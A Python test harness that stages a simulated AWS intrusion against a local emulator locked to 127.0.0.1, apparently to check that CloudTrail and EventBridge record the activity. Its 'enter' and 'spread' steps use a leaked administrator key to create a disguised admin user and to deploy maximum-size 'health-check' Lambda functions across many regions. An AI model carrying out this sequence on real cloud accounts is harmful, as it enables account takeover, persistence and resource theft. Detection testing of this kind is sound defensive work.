"""An intruder against a stand-in of AWS, with real API calls. Only for 127.0.0.1.

attack.py prepare ENDPOINT N                  an administrator with a key, a role; trails and rules in N regions, queues
attack.py enter ENDPOINT KEY SECRET N         with that key: a user, a key, administrator rights, functions in N regions
attack.py spread ENDPOINT KEY SECRET FROM N   with the intruder's key: functions in N regions behind the first FROM
attack.py objects ENDPOINT N                  waits until the bucket has the functions of N regions
attack.py events ENDPOINT N                   waits until the functions of N regions are in the queue of calls
Each prints one JSON object of what it made.
"""

import datetime
import gzip
import io
import json
import sys
import time
import zipfile

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

# The seventeen that every account has, in an order in which an intruder would rather begin far away.
REGIONS = (
    "eu-north-1 ap-northeast-3 sa-east-1 ca-central-1 ap-south-1 eu-west-3 ap-northeast-2 us-west-1 us-east-1 "
    "us-east-2 us-west-2 ap-northeast-1 ap-southeast-1 ap-southeast-2 eu-central-1 eu-west-1 eu-west-2"
).split()
# Whoever owns the account of the stand-in.
ROOT = ("000000000000", "test")
# Legal, and odd: a name may have + = , . @ _ and -.
USER = "svc.backup+tmp=1"


def client(service, region, endpoint, key):
    assert endpoint.startswith("http://127.0.0.1:"), endpoint
    config = Config(retries={"max_attempts": 10, "mode": "standard"}, s3={"addressing_style": "path"})
    return boto3.client(
        service,
        region_name=region,
        endpoint_url=endpoint,
        aws_access_key_id=key[0],
        aws_secret_access_key=key[1],
        config=config,
    )


def refused(call, **arguments):
    """Makes a call that should be refused and gives the error code, or OK."""
    try:
        call(**arguments)
        return "OK"
    except ClientError as error:
        return error.response["Error"]["Code"]


def trust(service):
    statement = {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def prepare(endpoint, count):
    regions = sorted({"us-east-1", *REGIONS[: int(count)]})
    iam = client("iam", "us-east-1", endpoint, ROOT)
    sqs = client("sqs", "us-east-1", endpoint, ROOT)
    s3 = client("s3", "us-east-1", endpoint, ROOT)
    # While a region's only trail takes no writes, none is recorded: what is made here is as old as the account.
    s3.create_bucket(Bucket="trail-bucket")
    reads = {"ReadWriteType": "ReadOnly", "IncludeManagementEvents": True, "DataResources": []}
    trails = {region: client("cloudtrail", region, endpoint, ROOT) for region in regions}
    for trail in trails.values():
        trail.create_trail(Name="reads", S3BucketName="trail-bucket")
        trail.put_event_selectors(TrailName="reads", EventSelectors=[reads])
        trail.start_logging(Name="reads")
    arns = {}
    for name in ("trail-objects", "trail-events"):
        url = sqs.create_queue(QueueName=name)["QueueUrl"]
        arns[name] = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    changes = {"QueueArn": arns["trail-objects"], "Events": ["s3:ObjectCreated:*"]}
    s3.put_bucket_notification_configuration(
        Bucket="trail-bucket", NotificationConfiguration={"QueueConfigurations": [changes]}
    )
    role = iam.create_role(RoleName="worker", AssumeRolePolicyDocument=trust("lambda.amazonaws.com"))["Role"]["Arn"]
    iam.create_user(UserName="deploy")
    iam.attach_user_policy(UserName="deploy", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    key = iam.create_access_key(UserName="deploy")["AccessKey"]
    # Here a trail delivers the calls of its own region only, and a call reaches the bus of its region.
    for region, trail in trails.items():
        events = client("events", region, endpoint, ROOT)
        events.put_rule(Name="calls", EventPattern=json.dumps({"detail-type": ["AWS API Call via CloudTrail"]}))
        events.put_targets(Rule="calls", Targets=[{"Id": "queue", "Arn": arns["trail-events"]}])
        trail.create_trail(Name="trail-" + region, S3BucketName="trail-bucket")
        trail.start_logging(Name="trail-" + region)
    return {
        "bucket": "trail-bucket",
        "objects": "trail-objects",
        "events": "trail-events",
        "regions": regions,
        "role": role,
        "user": "deploy",
        "key": key["AccessKeyId"],
        "secret": key["SecretAccessKey"],
    }


def functions(endpoint, key, regions):
    """A function in each region, at its largest, under a name that looks like the owner's."""
    code = io.BytesIO()
    with zipfile.ZipFile(code, "w") as archive:
        archive.writestr("index.py", "def handler(event, context):\n    return 1\n")
    made = []
    for region in regions:
        answer = client("lambda", region, endpoint, key).create_function(
            FunctionName="health-check",
            Runtime="python3.12",
            Role="arn:aws:iam::000000000000:role/worker",
            Handler="index.handler",
            Code={"ZipFile": code.getvalue()},
            MemorySize=10240,
            Timeout=900,
        )
        made.append(answer["FunctionArn"])
    return made


def enter(endpoint, key, secret, count):
    leaked = (key, secret)
    iam = client("iam", "us-east-1", endpoint, leaked)
    sts = client("sts", "us-east-1", endpoint, leaked)
    identity = sts.get_caller_identity()["Arn"]
    iam.create_user(UserName=USER)
    made = iam.create_access_key(UserName=USER)["AccessKey"]
    own = (made["AccessKeyId"], made["SecretAccessKey"])
    # The new key before it has rights.
    codes = [refused(client("iam", "us-east-1", endpoint, own).list_users)]
    codes.append(refused(client("s3", "us-east-1", endpoint, own).list_buckets))
    iam.attach_user_policy(UserName=USER, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    return {
        "identity": identity,
        "user": USER,
        "key": own[0],
        "secret": own[1],
        "refused": codes,
        "functions": functions(endpoint, own, REGIONS[: int(count)]),
    }


def spread(endpoint, key, secret, begin, count):
    begin = int(begin)
    return {"functions": functions(endpoint, (key, secret), REGIONS[begin : begin + int(count)])}


def objects(endpoint, count):
    s3 = client("s3", "us-east-1", endpoint, ROOT)
    seen, found = set(), set()
    for _ in range(150):
        for entry in s3.list_objects_v2(Bucket="trail-bucket").get("Contents", []):
            if entry["Key"] in seen:
                continue
            seen.add(entry["Key"])
            body = s3.get_object(Bucket="trail-bucket", Key=entry["Key"])["Body"].read()
            for record in json.loads(gzip.decompress(body))["Records"]:
                if record["eventName"] == "CreateFunction":
                    found.add(record["awsRegion"])
        if len(found) >= int(count):
            return {"objects": len(seen)}
        time.sleep(1)
    sys.exit("functions of %d regions were delivered, in %d objects" % (len(found), len(seen)))


def events(endpoint, count):
    trail = client("cloudtrail", "us-east-1", endpoint, ROOT)
    attribute = [{"AttributeKey": "EventName", "AttributeValue": "CreateFunction"}]
    made = trail.lookup_events(LookupAttributes=attribute)["Events"]
    if len(made) < int(count):
        sys.exit("only %d functions" % len(made))
    # A call reaches the bus 60 seconds later; receiving from the queue would hide its messages from others.
    age = datetime.datetime.now(datetime.timezone.utc) - max(event["EventTime"] for event in made)
    time.sleep(max(0, 63 - age.total_seconds()))
    return {"functions": len(made)}


if __name__ == "__main__":
    command, *arguments = sys.argv[1:]
    commands = {"prepare": prepare, "enter": enter, "spread": spread, "objects": objects, "events": events}
    print(json.dumps(commands[command](*arguments)))
